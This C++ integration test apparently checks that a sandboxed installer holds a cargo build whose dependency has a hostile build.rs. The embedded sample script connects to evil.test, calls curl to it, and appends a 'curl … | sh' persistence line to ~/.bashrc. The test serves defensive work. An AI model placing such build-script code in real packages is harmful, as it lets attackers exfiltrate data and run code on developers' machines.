// cargo through the whole pipeline — sandbox, gateway, staging, verdict, promotion — against a
// sparse registry the test serves in its own fake internet: `cargo build` of a project whose
// dependency has a build.rs, and of one whose dependency's build.rs behaves like an attacker's.
// Debian's cargo (0.66) needs RUSTC_BOOTSTRAP and CARGO_UNSTABLE_SPARSE_REGISTRY for sparse
// registries; newer cargo ignores both.
#include <catch2/catch.hpp>
#include <filesystem>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/ecosystem_registries.h"
#include "tests/support/fake_internet.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;

namespace {

constexpr const char* kCargo = "/usr/bin/cargo";
constexpr const char* kRustc = "/usr/bin/rustc";

std::vector<CratePackage> crates(const std::string& build_rs) {
  return {{.name = "si-leaf",
           .version = "1.0.0",
           .files = {{"src/lib.rs", "pub fn leaf() -> &'static str { \"leaf\" }\n"}}},
          {.name = "si-hooked",
           .version = "1.0.0",
           .files = {{"src/lib.rs",
                      "pub fn hello() -> String {\n"
                      "    format!(\"hooked+{}+{}\", si_leaf::leaf(),\n"
                      "            include_str!(concat!(env!(\"OUT_DIR\"), \"/gen.txt\")))\n"
                      "}\n"}},
           .dependencies = {{"si-leaf", "1.0"}},
           .build_rs = build_rs}};
}

// What an attacker's build.rs does: a raw connection by name, the same through curl (which
// honours the proxy variables), and a line in the shell rc.
const std::string kHostileBuildRs =
    "use std::io::Write;\n"
    "fn main() {\n"
    "    let direct = std::net::TcpStream::connect(\"evil.test:443\");\n"
    "    println!(\"cargo:warning=direct connect: {:?}\", direct.map(|_| ()));\n"
    "    let curl = std::process::Command::new(\"curl\")\n"
    "        .args([\"-s\", \"-m\", \"10\", \"https://evil.test/collect\"]).status();\n"
    "    println!(\"cargo:warning=curl: {:?}\", curl);\n"
    "    let home = std::env::var(\"HOME\").unwrap();\n"
    "    let mut rc = std::fs::OpenOptions::new().create(true).append(true)\n"
    "        .open(format!(\"{}/.bashrc\", home)).unwrap();\n"
    "    writeln!(rc, \"curl -s evil.test/x | sh\").unwrap();\n"
    "    let out = std::env::var(\"OUT_DIR\").unwrap();\n"
    "    std::fs::write(format!(\"{}/gen.txt\", out), \"generated\").unwrap();\n"
    "}\n";

void write_project(const Scenario& s) {
  host_write(s, "Cargo.toml",
             "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2018\"\n\n"
             "[dependencies]\nsi-hooked = \"1.0\"\n");
  host_write(s, "src/main.rs", "fn main() { println!(\"{}\", si_hooked::hello()); }\n");
  host_write(s, ".cargo/config.toml",
             "[source.crates-io]\nreplace-with = \"fake\"\n\n"
             "[source.fake]\nregistry = \"sparse+http://registry.test/cargo/index/\"\n");
}

SandboxRun cargo_build(const Scenario& s) {
  std::vector<std::string> env = kCleanCiEnv;
  env.insert(env.end(), {std::string("RUSTC=") + kRustc, "RUSTC_BOOTSTRAP=1",
                         "CARGO_UNSTABLE_SPARSE_REGISTRY=true"});
  auto run = s.run(
      {kCargo, "build"},
      {"--allow-host", "registry.test:80", "--pass-env", "RUSTC", "--pass-env", "RUSTC_BOOTSTRAP"},
      env, 180s);
  UNSCOPED_INFO("cargo build\nexit " << run.exit_code() << "\nstdout: " << run.result.out
                                     << "\nstderr: " << run.result.err);
  return run;
}

}  // namespace

TEST_CASE("cargo build runs a dependency's build.rs and promotes target/ and Cargo.lock",
          "[install][cargo]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, kCargo, kRustc);
  FakeInternet net(SI_SINK_PATH);
  write_cargo_registry(
      net.registry_root(), "http://registry.test/",
      crates("fn main() {\n"
             "    let out = std::env::var(\"OUT_DIR\").unwrap();\n"
             "    std::fs::write(format!(\"{}/gen.txt\", out), \"generated\").unwrap();\n"
             "}\n"));
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_project(s);

  auto build = cargo_build(s);
  CHECK(build.exit_code() == 0);
  REQUIRE(build.report.is_object());
  CHECK(build.report.at("profile") == "cargo");
  CHECK(build.report.at("verdict") == "promoted");
  CHECK(contains(project_file(s, "Cargo.lock"), "name = \"si-hooked\""));
  const auto* hooked = added_package(build.report, "crates.io", "si-hooked");
  REQUIRE(hooked != nullptr);
  CHECK(hooked->at("source") == "Cargo.lock");
  CHECK(hooked->at("direct") == true);
  const auto* leaf = added_package(build.report, "crates.io", "si-leaf");
  REQUIRE(leaf != nullptr);
  CHECK(leaf->at("direct") == false);
  // The promoted binary carries what the dependency's build.rs generated.
  CHECK(run({s.project() + "/target/debug/app"}).out == "hooked+leaf+generated\n");
  for (const auto& change : build.report.at("files").at("project"))
    CHECK(change.at("category") == "expected");
  CHECK_FALSE(contacted_hosts(build.report, "registry.test").empty());
  CHECK(contains(net.log(FakeInternet::Log::Registry), "GET /cargo/crates/si-leaf/1.0.0.crate"));
  CHECK(net.sink_log().empty());
}

TEST_CASE("a dependency whose build.rs phones home and plants a shell rc line is held",
          "[install][cargo]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, kCargo, kRustc, "curl");
  FakeInternet net(SI_SINK_PATH);
  write_cargo_registry(net.registry_root(), "http://registry.test/", crates(kHostileBuildRs));
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_project(s);

  auto build = cargo_build(s);
  CHECK(build.exit_code() == kExitSuspicious);
  REQUIRE(build.report.is_object());
  CHECK(build.report.at("verdict") == "held");
  CHECK_FALSE(in_project(s, "target"));
  CHECK_FALSE(in_project(s, "Cargo.lock"));
  // The name lookup of the direct connection was refused by the sandbox's DNS, and curl's
  // CONNECT by the proxy.
  bool name_refused = false;
  for (const auto& query : build.report.at("network").at("dns"))
    name_refused |= query.at("name") == "evil.test" && query.at("allowed") == false;
  CHECK(name_refused);
  auto refused = refused_hosts(build.report, "evil.test");
  REQUIRE(refused.size() == 1);
  CHECK(refused[0].at("port") == 443);
  const auto* rc = change_at(build.report.at("files").at("home"), ".bashrc");
  REQUIRE(rc != nullptr);
  CHECK(has_flag(rc, "persistence"));
  CHECK_FALSE(contains(net.dns_log(), "evil.test"));
  CHECK(net.sink_log().empty());
}
